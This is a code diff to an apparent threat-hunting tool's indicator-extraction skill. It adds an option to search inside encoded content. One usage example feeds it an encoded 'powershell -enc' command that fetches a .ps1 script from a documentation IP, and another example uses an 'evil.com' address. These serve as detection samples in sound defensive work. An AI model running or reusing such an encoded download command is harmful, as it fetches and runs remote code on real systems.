@@ -1,3 +1,4 @@
+import { extractLayers } from '../../analysis/decode/extract-layers.js';
 import { extractMany, type ExtractedMany, type ExtractManyInput } from '../../analysis/ioc/extract-many.js';
 import type { IndicatorType } from '../../analysis/ioc/types.js';
 import { THIS_CELL, type NextCommand } from '../../casebook/finding.js';
@@ -12,6 +13,7 @@ import { entitiesOf, FAMILIES, kindsOf, sorted, tableOf, TYPES } from './view.js
 /** More than this is searched in a worker thread. */
 const INLINE_VALUES = 500;
 const INLINE_CHARACTERS = 50_000;
+const INLINE_ENCODED = 8_000;
 /** Share of the time limit for the work itself; the rest is for what comes after. */
 const WORK_SHARE = 0.8;
 const MAX_INDICATORS = 50_000;
@@ -19,28 +21,35 @@ const MAX_INDICATORS = 50_000;
 const typesOf = (type: string): readonly IndicatorType[] | undefined =>
   (type === 'all' ? undefined : FAMILIES[type] ?? TYPES.filter((one) => one === type));
 
-async function searchAll({ texts }: Texts, types: readonly IndicatorType[] | undefined, ctx: SkillContext): Promise<ExtractedMany> {
+/** How values are searched: as they are, and what is encoded in them too. */
+const WAYS = {
+  no: { search: extractMany, module: new URL('../../analysis/ioc/extract-many.js', import.meta.url), inline: INLINE_CHARACTERS },
+  yes: { search: extractLayers, module: new URL('../../analysis/decode/extract-layers.js', import.meta.url), inline: INLINE_ENCODED },
+} as const;
+
+async function searchAll({ texts }: Texts, types: readonly IndicatorType[] | undefined, way: (typeof WAYS)[keyof typeof WAYS], ctx: SkillContext): Promise<ExtractedMany> {
   const input: ExtractManyInput = { values: texts, limit: MAX_INDICATORS, ms: ctx.limits.ms * WORK_SHARE, ...(types === undefined ? {} : { types }) };
   const characters = texts.reduce((sum, { text }) => sum + text.length, 0);
-  if (texts.length <= INLINE_VALUES && characters <= INLINE_CHARACTERS) return extractMany(input);
+  if (texts.length <= INLINE_VALUES && characters <= way.inline) return way.search(input);
   ctx.progress(`Searching ${count(texts.length, 'distinct value')}`);
-  const job = { module: new URL('../../analysis/ioc/extract-many.js', import.meta.url), name: 'extractMany', input, deadlineMs: ctx.limits.ms, signal: ctx.signal };
+  const job = { module: way.module, name: way.search.name, input, deadlineMs: ctx.limits.ms, signal: ctx.signal };
   return ctx.pool.run(job, (output) => output as ExtractedMany); // our own function's result, cloned
 }
 
-function notesOf({ rows, notes }: Texts, { more, unread }: ExtractedMany): string[] {
+function notesOf({ rows, notes }: Texts, { more, unread, notes: undecoded = [] }: ExtractedMany): string[] {
   return [
     ...(rows !== undefined && rows.read < rows.total ? [`The first ${count(rows.read, 'row')} of ${rows.total.toLocaleString('en')} were read.`] : []),
-    ...notes,
+    ...notes, ...undecoded,
     ...(unread > 0 ? [`${count(unread, 'distinct value')} were not looked at: the time was up.`] : []),
     ...(more ? [`Only the first ${MAX_INDICATORS.toLocaleString('en')} distinct indicators were kept.`] : []),
   ];
 }
 
 /** Its indicators can be looked up, and what it holds may be encoded. */
-function nextOf({ label, isColumn }: Texts, found: boolean): NextCommand[] {
+function nextOf({ label, isColumn }: Texts, found: boolean, decoded: boolean): NextCommand[] {
   return [
     ...(found ? [{ label: 'Enrich them', say: `enrich ${THIS_CELL}.Value` }] : []),
+    ...(isColumn && !decoded ? [{ label: 'Inside of encodings too', say: `ioc ${label} decode=yes` }] : []),
     ...(isColumn ? [{ label: 'Decode the column', say: `decode ${label}` }] : []),
   ];
 }
@@ -51,6 +60,7 @@ export default defineSkill({
   summary: 'Find indicators in a text, a column or a whole table',
   params: {
     input: param.source('where to look: a text, $procs.CommandLine, #4.Message or a whole table'),
+    decode: param.choice(['no', 'yes'], 'whether to look inside of encodings too', 'no'),
     type: param.choice(['all', ...Object.keys(FAMILIES), ...TYPES], 'kinds to list', 'all'),
   },
   effects: 'reads-logs',
@@ -81,12 +91,16 @@ export default defineSkill({
       gives: { headline: '2 indicators in $t: 1 e-mail address, 1 MD5', rows: [['email', 'eve@evil.com', 1, 'From, row 1'], ['md5', '44d88612fea8a8f36de82e1278abb02f', 1, 'Info, row 1']] },
       why: 'a whole table: every text and dynamic column',
     },
+    {
+      say: 'ioc powershell -enc aQB3AHIAIABoAHQAdABwADoALwAvADIAMAAzAC4AMAAuADEAMQAzAC4AOQAvAGEALgBwAHMAMQA= decode=yes', why: 'what is encoded is searched too; the place is that of the encoded text',
+      gives: { headline: '2 indicators in the text: 1 IPv4 address, 1 URL', rows: [['ipv4', '203.0.113.9', 1, 'layer 1.1 of the text'], ['url', 'http://203.0.113.9/a.ps1', 1, 'layer 1.1 of the text', 26, 65]] },
+    },
     { say: 'ioc run.sh wrote version 1.2.3.4 at 12:34:56', gives: { headline: 'No indicator was found in the text' }, why: 'file names, versions and times are none' },
   ],
-  async run({ input, type }, ctx) {
+  async run({ input, type, decode }, ctx) {
     const source = await readTexts(input, ctx);
     if (source.texts.length === 0) throw new UserError({ code: 'table.empty', message: `${source.label} has no values to search.`, next: 'ioc <text>' });
-    const extracted = await searchAll(source, typesOf(type), ctx);
+    const extracted = await searchAll(source, typesOf(type), WAYS[decode], ctx);
     const indicators = sorted(extracted.indicators);
     const found = indicators.length > 0;
     const rows = source.texts.reduce((sum, { count: times }) => sum + times, 0);
@@ -96,7 +110,7 @@ export default defineSkill({
       facts: source.rows === undefined ? [] : [{ label: 'Values read', value: `${source.texts.length.toLocaleString('en')} distinct in ${count(rows, source.isColumn ? 'row' : 'field')}` }],
       ...(found ? { table: tableOf(indicators, source) } : {}),
       entities: entitiesOf(indicators, source),
-      next: nextOf(source, found),
+      next: nextOf(source, found, decode === 'yes'),
       notes: notesOf(source, extracted),
     });
   },
